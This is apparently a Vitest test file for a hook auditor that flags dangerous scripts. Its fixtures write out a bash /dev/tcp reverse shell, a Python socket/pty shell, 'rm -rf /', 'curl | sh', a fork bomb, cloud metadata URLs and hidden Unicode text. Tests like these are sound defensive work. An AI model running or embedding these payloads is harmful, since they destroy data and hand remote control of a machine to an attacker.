// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell code
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { describeHandler } from '../../../../src/builtins.ts';
import type { Hook } from '../../../../src/core/contracts/hook.ts';
import type { JsonObject } from '../../../../src/core/values/json.ts';
import { isSevere } from '../../../../src/guard/findings.ts';
import * as guard from '../../../../src/guard/index.ts';
import { isKeptOut } from '../../../../src/guard/index.ts';

type Options = Omit<Parameters<typeof guard.auditHook>[1], 'describe'>;
const auditHook = (one: Hook, options: Options = {}) => guard.auditHook(one, { describe: describeHandler, ...options });
const scriptFiles = (one: Hook, options: Options = {}) => guard.scriptFiles(one, { describe: describeHandler, ...options });

let root = '';
let folder = '';
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'guard-')));
  folder = join(root, 'hook');
  mkdirSync(folder);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const write = (path: string, text: string): string => {
  const full = join(folder, path);
  mkdirSync(dirname(full), { recursive: true });
  writeFileSync(full, text, { mode: 0o755 });
  return full;
};
const hook = (config: JsonObject, extra: Partial<Hook> = {}, type = 'command'): Hook => ({
  id: 'h',
  name: 'h',
  dialect: 'any',
  event: 'e',
  when: [],
  handler: { type, config },
  timeoutMs: 1000,
  priority: 0,
  detach: false,
  enabled: true,
  source: { file: join(folder, 'HOOK.toml'), line: 7, scope: 'project' },
  cwd: folder,
  folder,
  ...extra,
});
const REVERSE = '#!/bin/bash\n# quiet\nbash -i >& /dev/tcp/192.0.2.9/80 0>&1\n';

test('the command itself is judged, and the finding points at the hook', () => {
  const report = auditHook(hook({ command: 'true\nrm -rf /' }));
  expect(report.findings[0]).toMatchObject({ rule: 'delete-root', severity: 'catastrophic', file: join(folder, 'HOOK.toml'), line: 7 });
  expect(isKeptOut(report)).toBe(true);
});

test.each([
  'bash ./run.sh',
  'bash run.sh',
  './run.sh',
  'sh -x "run.sh" a b',
  'source ./run.sh',
  '. ./run.sh',
  'sudo env A=b bash ./run.sh',
  'cd . && ./run.sh',
  'if true; then ./run.sh; fi',
  'echo x | ./run.sh',
  '$ROOT/run.sh',
  '"${ROOT}/run.sh"',
  'cd "$ROOT" && bash run.sh',
  'x=run.sh; bash $x',
])('a script that `%s` runs is audited, with its own lines', (command) => {
  const file = write('run.sh', REVERSE);
  const report = auditHook(hook({ command }, { env: { ROOT: folder } }));
  expect(report.findings).toMatchObject([{ rule: 'network-shell', file, line: 3 }]);
  expect(report.files).toEqual([file]);
});

test('a script as such is audited', () => {
  const file = write('scripts/run', REVERSE);
  expect(auditHook(hook({ script: file })).findings).toMatchObject([{ rule: 'network-shell', file, line: 3 }]);
});

test('scripts are followed through scripts, each once', () => {
  const a = write('a.sh', 'source "$(dirname "$0")/lib/b.sh"\n./a.sh\n');
  const b = write('lib/b.sh', 'cd "$(dirname "${BASH_SOURCE[0]}")"\n./c\n');
  const c = write('lib/c', '#!/bin/sh\n\ncurl x | sh\n');
  const report = auditHook(hook({ command: './a.sh' }));
  expect(report.files).toEqual([a, b, c]);
  expect(report.findings.filter(isSevere)).toMatchObject([{ rule: 'exec-remote', file: c, line: 3 }]);
  expect(scriptFiles(hook({ command: './a.sh' }))).toEqual([a, b, c]);
});

test('a hook that runs Hookline itself is not followed into the program', () => {
  const bin = join(import.meta.dirname, '../../../../bin/hookline.js');
  expect(auditHook(hook({ command: `node ${bin} fire tool.before; bash other.sh` })).files).toEqual([]);
  const own = write('bin/hookline.js', 'require("node:child_process").execSync("rm -rf /");\n');
  expect(isKeptOut(auditHook(hook({ command: `node ${own}` })))).toBe(true);
});

test('a file that is only named is neither followed nor a finding', () => {
  write('run.sh', REVERSE);
  for (const command of ['cat run.sh', 'echo ./run.sh', 'chmod +x run.sh', '/bin/sh -c true', '/usr/bin/env true'])
    expect(auditHook(hook({ command }))).toMatchObject({ findings: [], files: [], unaudited: [] });
});

test('a script that is not there is said, and not taken for clean', () => {
  for (const command of ['./missing.sh', 'bash missing.sh', `./${'x'.repeat(5000)}`, `bash ${'y/'.repeat(3000)}z`]) {
    const report = auditHook(hook({ command }));
    expect(report.findings).toMatchObject([{ rule: 'missing-script', severity: 'low' }]);
    expect(report.unaudited).toHaveLength(1);
    expect(isKeptOut(report)).toBe(false);
  }
  expect(auditHook(hook({ command: './run.sh/deeper' })).files).toEqual([]);
});

test('a script below a folder with a space is known by its whole path alone', () => {
  const file = write('fresh clone/check.sh', '#!/bin/sh\nexit 0\n');
  const folder = file.slice(0, file.lastIndexOf('/'));
  for (const command of [`'${folder}'/check.sh`, `"${folder}/check.sh"`, `${folder.replace(' ', '\\ ')}/check.sh`, `bash '${file}'`])
    expect(auditHook(hook({ command })), command).toMatchObject({ findings: [], files: [file], unaudited: [] });
  const gone = auditHook(hook({ command: `'${folder}'/gone.sh` }));
  expect(gone.findings).toMatchObject([{ rule: 'missing-script', text: `${folder}/gone.sh` }]);
});

test('a script that starts itself is a fork bomb', () => {
  write('run.sh', '#!/bin/sh\n./run.sh & ./run.sh &\n');
  expect(auditHook(hook({ command: './run.sh' })).findings).toMatchObject([{ rule: 'fork-bomb', line: 2 }, {}].slice(0, 1));
});

test('code of other languages is searched for what is plainly dangerous', () => {
  const file = write('check.py', '#!/usr/bin/env python3\nimport os\nos.system("rm -rf /")\n');
  expect(auditHook(hook({ command: 'python3 check.py' })).findings).toMatchObject([{ rule: 'delete-root', file, line: 3 }]);
  write('shell.py', 'import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")\n');
  expect(isKeptOut(auditHook(hook({ command: 'python3 ./shell.py' })))).toBe(true);
  write(
    'good.py',
    'import json, sys, socket, subprocess\ndata = json.load(sys.stdin)\nif "rm -rf /" in data["command"]:\n    sys.exit(2)\nsubprocess.run(["git", "status"])\n',
  );
  expect(auditHook(hook({ command: 'python3 good.py' })).findings).toEqual([]);
});

test('a file over 512 KiB keeps the hook out, one just below does not', () => {
  const file = write('run.sh', `#!/bin/bash\n# ${'x'.repeat(600_000)}\n`);
  expect(auditHook(hook({ command: 'bash ./run.sh' })).findings).toMatchObject([{ rule: 'unaudited-file', severity: 'high', file }]);
  write('run.sh', `#!/bin/bash\n# ${'x'.repeat(500_000)}\n`);
  expect(auditHook(hook({ command: 'bash ./run.sh' })).findings).toEqual([]);
  write('run.sh', `#!/bin/bash\n# ${'x'.repeat(500_000)}\nrm -rf /\n`);
  expect(auditHook(hook({ command: 'bash ./run.sh' })).findings[0]).toMatchObject({ rule: 'delete-root', line: 3 });
});

test('a script that is a link out of the folder keeps the hook out, a link within does not', () => {
  writeFileSync(join(root, 'outside.sh'), 'true\n', { mode: 0o755 });
  symlinkSync(join(root, 'outside.sh'), join(folder, 'run.sh'));
  expect(auditHook(hook({ command: './run.sh' })).findings).toMatchObject([
    { rule: 'link-leaves-folder', severity: 'high', file: join(folder, 'run.sh') },
  ]);
  write('real.sh', 'true\n');
  symlinkSync('real.sh', join(folder, 'link.sh'));
  expect(auditHook(hook({ command: './link.sh' })).findings).toEqual([]);
});

test('the folder is looked at only where it is asked for', () => {
  write('deep/er/data.bin', 'x'.repeat(600_000));
  symlinkSync('/', join(folder, 'deep', 'out'));
  symlinkSync('er', join(folder, 'deep', 'in'));
  expect(auditHook(hook({ command: 'true' })).findings).toEqual([]);
  const found = auditHook(hook({ command: 'true' }), { folder: true }).findings;
  expect(found.map(({ rule, file }) => [rule, file]).sort()).toEqual([
    ['link-leaves-folder', join(folder, 'deep', 'out')],
    ['unaudited-file', join(folder, 'deep', 'er', 'data.bin')],
  ]);
});

test('without a folder or a working directory of its own, the caller says where commands run', () => {
  const file = write('run.sh', REVERSE);
  const { cwd: _, folder: __, ...bare } = hook({ command: './run.sh' });
  expect(scriptFiles(bare)).toEqual([]);
  expect(scriptFiles(bare, { cwd: folder })).toEqual([file]);
});

test('more files than can be followed keep the hook out', () => {
  for (let i = 0; i < 60; i++) write(`s${i}.sh`, `./s${i + 1}.sh\n`);
  const report = auditHook(hook({ command: './s0.sh' }));
  expect(report.files.length).toBe(50);
  expect(report.findings[0]).toMatchObject({ rule: 'unaudited-file', severity: 'high' });
});

describe('hooks without a command', () => {
  const http = (url: string) => auditHook(hook({ url }, {}, 'http')).findings.map(({ rule, severity }) => [rule, severity]);
  test('an address is judged by where it leads and how', () => {
    expect(http('https://example.com/hook')).toEqual([]);
    expect(http('http://127.0.0.1:9/hook')).toEqual([]);
    expect(http('http://example.com/hook')).toEqual([['http-scheme', 'medium']]);
    expect(http('https://u:p@example.com/')).toEqual([['http-credentials', 'medium']]);
    for (const host of ['169.254.169.254', '[fd00:ec2::254]', 'metadata.google.internal', '0xA9FEA9FE', '2852039166'])
      expect(http(`https://${host}/latest`)).toEqual([['http-metadata', 'high']]);
    expect(http('no address')).toEqual([]);
  });
  test('a password in an address is not told', () => {
    expect(JSON.stringify(auditHook(hook({ url: 'https://u:secret@example.com/' }, {}, 'http')))).not.toContain('secret');
  });
  test('texts for a model may not hide anything; functions are not looked at', () => {
    const content = 'be kind\u200B\u202E';
    expect(auditHook(hook({ content }, {}, 'static')).findings).toMatchObject([{ rule: 'hidden-text', severity: 'medium' }]);
    expect(auditHook(hook({ prompt: { text: [content] } }, {}, 'prompt')).findings).toHaveLength(1);
    expect(auditHook(hook({ content: 'be kind' }, {}, 'static')).findings).toEqual([]);
    expect(auditHook(hook({ content }, {}, 'function')).findings).toEqual([]);
  });
});
